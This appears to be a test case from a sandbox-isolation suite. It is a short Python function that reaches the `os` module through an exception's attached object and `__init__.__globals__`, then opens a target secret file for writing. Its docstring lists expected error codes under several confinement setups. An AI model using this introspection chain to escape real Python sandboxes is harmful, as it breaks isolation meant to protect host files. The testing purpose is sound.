"""The object that an exception carries leads to `os`, which empties no file.

danger: read or write the host's files
public: yes
control: ok
namespaces: ENOENT
landlock: EACCES
all: ENOENT
all@container: EACCES
"""

import random
import string

POLICY = True


def attack(target):
    try:
        string.Formatter().get_field("0._nowhere", (random.Random,), {})
    except AttributeError as error:
        kind = getattr(error, "obj", random.Random)  # since Python 3.10
    os = kind.__init__.__globals__["_os"]
    os.close(os.open(target["secret"], os.O_WRONLY))
